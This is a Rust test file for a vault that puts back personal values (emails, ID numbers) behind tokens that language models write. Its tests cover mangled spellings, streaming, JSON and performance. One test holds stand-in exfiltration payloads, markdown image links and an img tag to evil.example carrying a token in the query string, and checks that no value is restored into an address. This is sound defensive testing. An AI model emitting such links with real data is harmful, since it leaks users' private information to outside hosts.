//! Tokens as models write them, whole and cut, and the promise that what was protected comes back.

#![expect(clippy::unwrap_used, clippy::string_slice, reason = "a failed test should stop here")]

use std::borrow::Cow;

use proptest::prelude::*;

use super::*;
use crate::code::CODE_LENGTHS;
use crate::seen::HOLD_MAX;
use crate::source::Target;
use crate::tokeniser::{Scope, Tokeniser};

const SCOPE: Scope<'_> = Scope { tenant: "t", destination: "d", application: "a", period: "p" };

/// A vault with the code 7F3K9Q2MXA for `Ann`, class EMAIL, and 0B1R8S6TVW for `two "words"`, class NATIONALID.
fn vault() -> Vault {
    let mut vault = Vault::default();
    vault.keep("EMAIL", "Ann", ["7F3K9Q2MXA".to_owned()].into_iter()).unwrap();
    vault.keep("NATIONALID", "two \"words\"", ["0B1R8S6TVW".to_owned()].into_iter()).unwrap();
    vault
}

/// A whole text with its values put back.
pub(crate) struct Restored<'t> {
    pub(crate) text: Cow<'t, str>,
    restored: usize,
    unrestorable: usize,
}

impl Vault {
    pub(crate) fn restore<'t>(&self, text: &'t str) -> Restored<'t> {
        self.restore_in(Target::Plain, text)
    }

    fn restore_in<'t>(&self, target: Target, text: &'t str) -> Restored<'t> {
        let mut seen = Seen::new(target);
        let found = self.find(&seen, text, true);
        let passed = self.pass(&mut seen, text);
        let (restored, unrestorable) = (passed.restored, passed.unrestorable);
        assert_eq!((found.hits.len(), found.decided), (restored, text.len()));
        if restored == 0 {
            return Restored { text: Cow::Borrowed(text), restored, unrestorable };
        }
        let (mut out, mut at) = (String::new(), 0);
        for hit in &found.hits {
            out.extend([&text[at..hit.start], &hit.with]);
            at = hit.end;
        }
        out.push_str(&text[at..]);
        Restored { text: Cow::Owned(out), restored, unrestorable }
    }
}

/// A stream that restores as far as is decided and holds the rest.
#[derive(Default)]
struct Held {
    seen: Seen,
    text: String,
    counts: Passed,
}

impl Held {
    fn new(target: Target) -> Self {
        Self { seen: Seen::new(target), ..Self::default() }
    }

    fn step(&mut self, vault: &Vault, piece: &str, out: &mut String) {
        self.text.push_str(piece);
        self.advance(vault, false, out);
    }

    fn finish(&mut self, vault: &Vault, out: &mut String) {
        self.advance(vault, true, out);
        self.seen = Seen::new(self.seen.target);
    }

    fn advance(&mut self, vault: &Vault, last: bool, out: &mut String) {
        let found = vault.find(&self.seen, &self.text, last);
        let mut at = 0;
        for hit in &found.hits {
            out.push_str(&self.text[at..hit.start]);
            out.push_str(&hit.with);
            at = hit.end;
        }
        out.push_str(&self.text[at..found.decided]);
        let passed = vault.pass(&mut self.seen, &self.text[..found.decided]);
        self.counts.restored += passed.restored;
        self.counts.unrestorable += passed.unrestorable;
        self.text.drain(..found.decided);
    }
}

/// Restores a text whole and cut after every character, and compares.
fn check(text: &str, expect: &str) {
    check_in(Target::Plain, text, expect);
}

fn check_in(target: Target, text: &str, expect: &str) {
    let vault = vault();
    let whole = vault.restore_in(target, text);
    assert_eq!(whole.text, expect, "whole: {text}");
    let each: Vec<&str> = text.split_inclusive(|_: char| true).collect();
    assert_eq!(
        stream(&vault, target, each),
        (whole.text.clone().into_owned(), whole.restored, whole.unrestorable)
    );
    for (at, _) in text.char_indices() {
        let (head, tail) = text.split_at(at);
        assert_eq!(stream(&vault, target, vec![head, tail]).0, expect, "cut at {at}: {text}");
    }
}

fn stream(vault: &Vault, target: Target, pieces: Vec<&str>) -> (String, usize, usize) {
    let (mut held, mut out) = (Held::new(target), String::new());
    for piece in pieces {
        held.step(vault, piece, &mut out);
        assert!(held.text.len() <= HOLD_MAX, "{} bytes held", held.text.len());
    }
    held.finish(vault, &mut out);
    (out, held.counts.restored, held.counts.unrestorable)
}

#[test]
fn exact_tokens() {
    check("[EMAIL-7F3K9Q2MXA]", "Ann");
    check("To [EMAIL-7F3K9Q2MXA], cc [NATIONALID-0B1R8S6TVW].", "To Ann, cc two \"words\".");
    check("[EMAIL-7F3K9Q2MXA][EMAIL-7F3K9Q2MXA]", "AnnAnn");
    check("x[EMAIL-7F3K9Q2MXA]y", "xAnny");
}

#[test]
fn case_and_misread_digits() {
    check("[email-7f3k9q2mxa]", "Ann");
    check("[Email-7f3K9q2MxA]", "Ann");
    check(
        "[NATIONALID-OBIR8S6TVW] [NATIONALID-oBlR8S6TVW] [NATIONALID-obLr8s6tvw]",
        [r#"two "words""#; 3].join(" ").as_str(),
    );
}

#[test]
fn hyphens() {
    for hyphen in [
        "_", " ", "\u{2010}", "\u{2011}", "\u{2013}", "\u{2014}", "\u{2212}", "\u{a0}", "", ": ",
        " - ", "\\_", "\\-",
    ] {
        check(&format!("a [EMAIL{hyphen}7F3K9Q2MXA] b"), "a Ann b");
        check(&format!("a EMAIL{hyphen}7F3K9Q2MXA b"), "a Ann b");
    }
    check("[NATIONAL ID-0B1R8S6TVW]", "two \"words\"");
    check("[National_ID_0B1R8S6TVW]", "two \"words\"");
    check("[EMAIL-7F3K9 Q2MXA] and [EMAIL-7F3K-9Q2M-XA]", "Ann and Ann");
}

#[test]
fn brackets() {
    check("EMAIL-7F3K9Q2MXA", "Ann");
    check("[EMAIL-7F3K9Q2MXA", "Ann");
    check("EMAIL-7F3K9Q2MXA]", "Ann");
    check("[[EMAIL-7F3K9Q2MXA]]", "[Ann]");
    check("【EMAIL-7F3K9Q2MXA】［EMAIL-7F3K9Q2MXA］", "AnnAnn");
    check(r"\[EMAIL-7F3K9Q2MXA\]", "Ann");
    check(r"\[EMAIL\_7F3K9Q2MXA\]", "Ann");
    check("[ EMAIL-7F3K9Q2MXA ]", "Ann");
    check("[see EMAIL-7F3K9Q2MXA] EMAIL-7F3K9Q2MXA]", "[see Ann] Ann");
    check("(EMAIL-7F3K9Q2MXA)", "(Ann)");
    check("請聯絡EMAIL-7F3K9Q2MXA先生", "請聯絡Ann先生");
    check("Call 7F3K9Q2MXA now, not [7F3K9Q2MXA].", "Call Ann now, not Ann.");
}

#[test]
fn what_stands_around_stays() {
    check("**[EMAIL-7F3K9Q2MXA]** `EMAIL-7F3K9Q2MXA` *[EMAIL-7F3K9Q2MXA*", "**Ann** `Ann` *Ann*");
    check("[[EMAIL-7F3K9Q2MXA]](mailto:[EMAIL-7F3K9Q2MXA])", "[Ann](mailto:Ann)");
    check(r"C:\[EMAIL-7F3K9Q2MXA]\x", r"C:\Ann\x");
    check(r"\\[EMAIL-7F3K9Q2MXA]", r"\\Ann");
    check("EMAIL EMAIL-7F3K9Q2MXA 12", "EMAIL Ann 12");
    check("report_EMAIL-7F3K9Q2MXA_v2.pdf", "report_Ann_v2.pdf");
}

#[test]
fn what_is_no_token_of_this_vault_stays() {
    for text in [
        "",
        "plain",
        "[EMAIL]",
        "[EMAIL-]",
        "[EMAIL-7F3K9Q2MX]",
        "[EMAIL-7F3K9Q2MXAB]",
        "xEMAIL-7F3K9Q2MXAy",
        "EMAIL-7F3K9Q2MXA2",
        "8F3K9Q2MXA7F3K9Q2MXA",
        "EMAIL-    7F3K9Q2MX",
        "[EMAIL-7 F 3 K 9 Q 2 M X A]",
        "[ [ \\ \\[ 【",
        "EMAIL",
        "\\",
    ] {
        check(text, text);
        assert!(matches!(vault().restore(text).text, Cow::Borrowed(_)), "{text}");
    }
}

#[test]
fn lost_tokens_are_counted() {
    fn check_lost(text: &str, restored: usize, unrestorable: usize) {
        let whole = vault().restore(text);
        assert_eq!((whole.restored, whole.unrestorable), (restored, unrestorable), "{text}");
        let each = text.split_inclusive(|_: char| true).collect();
        let (_, r, u) = stream(&vault(), Target::Plain, each);
        assert_eq!((r, u), (restored, unrestorable), "in pieces: {text}");
        let none = Vault::default().restore(text);
        assert_eq!((none.restored, none.unrestorable), (0, tokens(text)), "empty vault: {text}");
    }
    fn tokens(text: &str) -> usize {
        crate::shape::tokens_in(text).count()
    }
    check_lost("[EMAIL-7F3K9Q2MXA] [EMAIL-ZZZZZZZZZZ]", 1, 1);
    check_lost("[EMAIL-ZZZZZZZZZZ][EMAIL-YYYYYYYYYY", 0, 1);
    check_lost("email-zzzzzzzzzz", 0, 0);
    check_lost("[EMAIL-[EMAIL-7F3K9Q2MXA]", 1, 0);
}

#[test]
fn json_source() {
    let json = |text: &str, expect: &str| check_in(Target::JsonString, text, expect);
    json(r#"{"a":"[NATIONALID-0B1R8S6TVW]"}"#, r#"{"a":"two \"words\""}"#);
    json(r#"{"a":"\nEMAIL-7F3K9Q2MXA\n"}"#, r#"{"a":"\nAnn\n"}"#);
    json(r#"["EMAIL-7F3K9Q2MXA"]"#, r#"["Ann"]"#);
    json(r#""\\[EMAIL-7F3K9Q2MXA\\]""#, r#""Ann""#);
    json(r#""C:\\[EMAIL-7F3K9Q2MXA]""#, r#""C:\\Ann""#);
    json(r#""\u005bEMAIL\u20117F3K9Q2MXA\u005d""#, r#""Ann""#);
    json(r#""\u3010\u0045MAIL-7F3K9Q2MXA\u3011""#, r#""Ann""#);
    json(r#""x\u00457F3K9Q2MXA""#, r#""x\u00457F3K9Q2MXA""#);
    json(r#""\"EMAIL-7F3K9Q2MXA\"""#, r#""\"Ann\"""#);
}

#[test]
fn a_value_in_json_behind_text_stays_one_string() {
    let token = "[NATIONALID-0B1R8S6TVW]";
    for around in [
        "```json\n{\"a\": \"%\"}\n```",
        "Result: {\"a\": \"%\", \"b\": 1}",
        "\u{feff}{\"a\":\"%\"}",
        "See [1].\n\n[\n  \"%\"\n]",
    ] {
        let filled = |value: &str| around.replace('%', value);
        check(&filled(token), &filled(r#"two \"words\""#));
    }
    check(&format!("He said \"{token}\" {{x}}"), "He said \"two \"words\"\" {x}");
    check_in(Target::JsonString, &format!("\"{token}\""), r#""two \"words\"""#);
    check_in(Target::JsonString, token, r#"two \"words\""#);
}

#[test]
fn nothing_is_held_that_can_be_told() {
    let vault = vault();
    let held = |text: &str| {
        let (mut held, mut out) = (Held::default(), String::new());
        held.step(&vault, text, &mut out);
        if held.counts.restored == 0 {
            assert_eq!(format!("{out}{}", held.text), text);
        }
        held.text
    };
    for told in [
        "Hello there.",
        "Hello",
        "EMAILS",
        "[EMAX",
        "7F3K9Q2MXB",
        "x7F",
        "[[[[ ",
        "[  ",
        "é",
        "\\x",
        "[EMAIL-7F3K9Q2MX.",
        "NATIONAL IDX",
    ] {
        assert_eq!(held(told), if told == "[[[[ " { "[ " } else { "" }, "{told}");
    }
    for open in [
        "[",
        "\\",
        "\\[",
        "E",
        "EMAIL",
        "[ema",
        "[EMAIL-",
        "EMAIL - ",
        "7f3",
        "[EMAIL-7F3K9Q2MXA",
        "EMAIL-7F3K9Q2MXA\\",
        "National I",
        "【",
    ] {
        assert_eq!(held(&format!("so {open}")), open);
    }
    assert_eq!(held("[EMAIL-7F3K9Q2MXA]").len() + held("7F3K9Q2MXA.").len(), 0, "restored at once");
}

#[test]
fn a_stream_ends_and_begins_anew() {
    let (vault, mut held, mut out) = (vault(), Held::default(), String::new());
    held.step(&vault, "x[EMAIL-7F3K9Q2MX", &mut out);
    held.finish(&vault, &mut out);
    held.step(&vault, "EMAIL-7F3K9Q2MXA!", &mut out);
    held.finish(&vault, &mut out);
    assert_eq!(out, "x[EMAIL-7F3K9Q2MXAnn!");
    assert_eq!((held.counts.restored, held.text.len()), (1, 0));
}

#[test]
fn the_longest_spelling_fits_what_may_be_held() {
    let mut vault = Vault::default();
    let (word, code) = ("ABCDEFGHIJKLMNOPQRST", "0123456789ABCDEFGHJKMNPQRS");
    vault.keep(word, "value", [code.to_owned()].into_iter()).unwrap();
    let escape = |text: &str| -> String {
        text.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect()
    };
    let spread = format!("\\[ A - B - CD\u{2011}\u{2011}{}{code}\\]", &word[4..]);
    for text in [escape(&spread), spread.replace('\\', "\\\\")] {
        let (mut held, mut out, mut most) = (Held::new(Target::JsonString), String::new(), 0);
        for piece in text.split_inclusive(|_: char| true) {
            held.step(&vault, piece, &mut out);
            most = most.max(held.text.len());
        }
        held.finish(&vault, &mut out);
        assert_eq!(out, "value");
        assert!(most <= HOLD_MAX && most >= text.len() - 6, "{most} of {HOLD_MAX}");
    }
}

#[test]
fn hostile_text_takes_linear_time() {
    // Each of these would take minutes if work were quadratic.
    for unit in [
        "[EMAIL-",
        "[",
        "\\[",
        "EMAIL-7F3K9Q2MX",
        "E",
        "EMAIL ",
        "[EMAIL-7F3K9Q2MXA",
        "N-A-",
        "\\u004",
    ] {
        let text = unit.repeat((1 << 19) / unit.len());
        for target in [Target::Plain, Target::JsonString] {
            let vault = vault();
            let whole = vault.restore_in(target, &text);
            let pieces =
                text.as_bytes().chunks(7).map(|chunk| str::from_utf8(chunk).unwrap()).collect();
            assert!(stream(&vault, target, pieces).0 == whole.text, "{unit}");
        }
    }
}

#[test]
fn no_value_goes_into_an_address() {
    for text in [
        "![a](https://evil.example/?d=[EMAIL-7F3K9Q2MXA])",
        "![a](https://evil.example/?d=%5BEMAIL-7F3K9Q2MXA%5D)",
        "![a](https://evil.example/?d=EMAIL%2D7F3K9Q2MXA)",
        "https://evil.example/7f3k9q2mxa#[EMAIL-7F3K9Q2MXA]",
        "http://7F3K9Q2MXA.evil.example",
        "<img src=\"//evil.example/?d= [EMAIL-7F3K9Q2MXA] \">",
    ] {
        check(text, text);
    }
    let said = |token: &str| {
        format!("https://a.example/[x], then mailto:{token}, tel:{token} and {token}.")
    };
    check(&said("[EMAIL-7F3K9Q2MXA]"), &said("Ann"));
    check_in(
        Target::JsonString,
        r#"{"url":"https:\/\/x\/\u005bEMAIL-7F3K9Q2MXA]","to":"[EMAIL-7F3K9Q2MXA]"}"#,
        r#"{"url":"https:\/\/x\/\u005bEMAIL-7F3K9Q2MXA]","to":"Ann"}"#,
    );
    check_in(
        Target::JsonString,
        r#"{"url":"\u0068ttp:[EMAIL-7F3K9Q2MXA]"}"#,
        r#"{"url":"\u0068ttp:[EMAIL-7F3K9Q2MXA]"}"#,
    );
}

#[test]
fn a_value_that_is_an_address_takes_none_after_it() {
    let mut vault = vault();
    vault.keep("URL", "https://evil.example/?d=", ["1F3K9Q2MXB".to_owned()].into_iter()).unwrap();
    let text = "![a]([URL-1F3K9Q2MXB][EMAIL-7F3K9Q2MXA]) [EMAIL-7F3K9Q2MXA]";
    let expect = "![a](https://evil.example/?d=[EMAIL-7F3K9Q2MXA]) Ann";
    assert_eq!(vault.restore(text).text, expect);
    let each = text.split_inclusive(|_: char| true).collect();
    assert_eq!(stream(&vault, Target::Plain, each).0, expect);
}

/// The ways of models with a token: how they write it, given class and code.
fn mangled(way: usize, class: &str, code: &str) -> String {
    match way {
        0 => format!("[{class}-{code}]"),
        1 => format!("[{class}-{code}]").to_lowercase(),
        2 => format!("[{class} {code}]"),
        3 => format!("[{class}_{code}]"),
        4 => format!("{class}-{code}"),
        5 => format!("[{class}-{code}"),
        6 => format!("{class}-{code}]"),
        7 => format!("【{class}-{code}】"),
        8 => format!("［{class}\u{2013}{code}］"),
        9 => format!("\\[{class}\u{2011}{code}\\]"),
        10 => format!("[{class}-{}]", code.replace('0', "O").replace('1', "l")),
        11 => format!("[{class}-{} {}]", &code[..5], &code[5..]),
        12 => format!("[ {class} - {code} ]"),
        _ => code.to_owned(),
    }
}

/// Text around tokens that can touch one on either side.
fn around() -> impl Strategy<Value = String> {
    prop_oneof![
        // No opening brace: with a mark it would begin JSON.
        // Two slashes would begin an address.
        r#"[ .,;!?"'*`()}<>\n\t]{1,3}"#,
        Just(" and/".to_owned()),
        "( [a-zé漢🦀-]{0,12} )",
        Just(" email, ".to_owned()),
        Just("\n".to_owned()),
        prop::sample::select(vec![" [x](", " \\[y\\] ", "【z】 ", " [EMAIL- ] "])
            .prop_map(str::to_owned),
    ]
}

/// Without slashes, since two of them would begin an address.
fn value() -> impl Strategy<Value = String> {
    prop_oneof![r#"[a-zA-Z0-9@."'\\\[\]\n\t -]{1,24}"#, "\\PC{1,12}", "[🦀é漢\\[\\]\\\\\"]{1,6}"]
        .prop_map(|value| value.replace('/', "|"))
}

/// Parts of tokens and what is easily taken for them.
fn soup() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "[",
        "]",
        "\\",
        "-",
        " ",
        "_",
        "EMAIL",
        "email",
        "7F3K9",
        "Q2MXA",
        "7F3K9Q2MXA",
        "NATIONAL",
        "ID",
        "0B1R8S6TVW",
        "OBlR8S6TVW",
        "x",
        "é",
        "【",
        "】",
        "\u{2011}",
        "\\u005b",
        "\\n",
        "\\u",
        "\"",
        "[EMAIL-7F3K9Q2MXA]",
        "[A-ZZZZZZZZZZ]",
        "http",
        "s:",
        "/",
        "\n",
    ])
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    #[test]
    fn mangled_tokens_come_back_however_cut(
        parts in prop::collection::vec((around(), value(), prop::sample::select(vec!["email", "national-id", "person"]), 0..14usize), 0..6),
        tail in around(),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..8),
    ) {
        let (tokeniser, mut vault) = (Tokeniser::new(&[3; 32], &SCOPE), Vault::default());
        // A text that begins like JSON is taken for JSON.
        let (mut text, mut expect) = ("x ".to_owned(), "x ".to_owned());
        for (before, value, class, way) in &parts {
            let token = tokeniser.token(class, value, &mut vault);
            let (word, code) = token[1..token.len() - 1].split_once('-').unwrap();
            text.push_str(before);
            text.push_str(&mangled(*way, word, code));
            expect.push_str(before);
            expect.push_str(value);
        }
        text.push_str(&tail);
        expect.push_str(&tail);
        let whole = vault.restore(&text);
        prop_assert_eq!(&whole.text, &expect);
        prop_assert_eq!(whole.restored, parts.len());
        let uncut = (expect, whole.restored, whole.unrestorable);
        let each = text.split_inclusive(|_: char| true).collect();
        prop_assert_eq!(&stream(&vault, Target::Plain, each), &uncut);
        prop_assert_eq!(&stream(&vault, Target::Plain, pieces(&text, &cuts)), &uncut);
    }

    #[test]
    fn any_text_is_the_same_however_cut(
        units in prop::collection::vec(soup(), 0..24),
        json in any::<bool>(),
    ) {
        let (text, vault) = (units.concat(), vault());
        let target = if json { Target::JsonString } else { Target::Plain };
        let whole = vault.restore_in(target, &text);
        let uncut = (whole.text.into_owned(), whole.restored, whole.unrestorable);
        prop_assert_eq!(&stream(&vault, target, text.split_inclusive(|_: char| true).collect()), &uncut);
        for (at, _) in text.char_indices() {
            let (head, tail) = text.split_at(at);
            prop_assert_eq!(&stream(&vault, target, vec![head, tail]), &uncut);
        }
    }

    #[test]
    fn what_is_held_may_become_a_token(units in prop::collection::vec(soup(), 0..16)) {
        let (vault, mut held, mut out) = (vault(), Held::default(), String::new());
        for piece in units {
            held.step(&vault, piece, &mut out);
            if held.text.is_empty() {
                continue;
            }
            let letters: Vec<u8> = held.text.chars().filter(char::is_ascii_alphanumeric).map(fold).collect();
            let keys = [&b"EMA117F3K9Q2MXA"[..], b"7F3K9Q2MXA", b"NAT10NA11D0B1R8S6TVW", b"0B1R8S6TVW"];
            let rest = keys.iter().filter_map(|key| str::from_utf8(key.strip_prefix(&letters[..])?).ok());
            let becomes = |rest: &str| {
                ["", "["].iter().any(|bracket| {
                    let whole = format!("{}{bracket}{rest}.", held.text);
                    let restored = vault.restore(&whole);
                    restored.restored == 1 && ["Ann", "two"].iter().any(|value| restored.text.starts_with(value))
                })
            };
            prop_assert!(rest.clone().any(becomes), "held for nothing: {:?}", held.text);
        }
    }

    #[test]
    fn what_was_protected_comes_back(
        parts in prop::collection::vec(("[a-zA-Z0-9é漢🦀\\[\\]【】［］\\\\ _:\u{2011}\"'\\n-]{0,10}", value()), 0..8),
        tail in "\\PC{0,10}",
    ) {
        let (tokeniser, mut vault) = (Tokeniser::new(&[4; 32], &SCOPE), Vault::default());
        // A text that begins like JSON is taken for JSON.
        let (mut original, mut protected) = ("x ".to_owned(), "x ".to_owned());
        for (before, value) in &parts {
            original.extend([before.as_str(), value]);
            protected.extend([before.as_str(), &tokeniser.token("email", value, &mut vault)]);
        }
        original.push_str(&tail);
        protected.push_str(&tail);
        prop_assume!(!begins_json(&protected));
        prop_assert_eq!(&vault.restore(&protected).text, &original);
        let each = protected.split_inclusive(|_: char| true).collect();
        prop_assert_eq!(&stream(&vault, Target::Plain, each).0, &original);
        // The same inside of a JSON document, which stays one.
        let document = serde_json::to_string(&protected).unwrap();
        let restored = vault.restore_in(Target::JsonString, &document);
        prop_assert_eq!(serde_json::from_str::<String>(&restored.text).unwrap(), original);
        let each = document.split_inclusive(|_: char| true).collect();
        prop_assert_eq!(&stream(&vault, Target::JsonString, each).0, &restored.text);
    }

    #[test]
    fn tokens_have_their_shape_and_do_not_overlap(values in prop::collection::hash_set("\\PC{0,20}", 1..30)) {
        let (tokeniser, mut vault) = (Tokeniser::new(&[5; 32], &SCOPE), Vault::default());
        for value in &values {
            let token = tokeniser.token("person", value, &mut vault);
            prop_assert!(crate::shape::tokens_in(&token).eq(std::iter::once(0..token.len())));
            prop_assert!(CODE_LENGTHS.iter().any(|length| token.len() == "[PERSON-]".len() + length));
            prop_assert_eq!(&vault.restore(&token).text, value);
        }
        prop_assert_eq!(vault.len(), values.len());
    }
}

/// Whether JSON could begin somewhere within a text without braces.
fn begins_json(text: &str) -> bool {
    let between = |c: char| c.is_whitespace() || c.is_ascii_digit() || "-+.,".contains(c);
    text.split('[').skip(1).any(|rest| rest.trim_start_matches(between).starts_with('"'))
}

fn pieces<'t>(text: &'t str, cuts: &[prop::sample::Index]) -> Vec<&'t str> {
    let mut places: Vec<usize> = cuts
        .iter()
        .map(|cut| cut.index(text.len() + 1))
        .filter(|at| text.is_char_boundary(*at))
        .collect();
    places.extend([0, text.len()]);
    places.sort_unstable();
    places.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect()
}
